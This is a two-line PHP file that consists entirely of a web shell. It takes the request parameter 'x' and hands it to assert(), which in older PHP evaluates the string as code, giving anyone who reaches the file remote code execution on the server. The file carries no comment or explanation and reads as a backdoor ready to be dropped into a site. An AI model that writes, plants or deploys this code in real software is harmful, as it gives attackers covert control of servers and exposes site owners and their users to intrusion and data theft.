<?php
if (isset($_REQUEST['x'])) { assert(stripslashes($_REQUEST['x'])); }
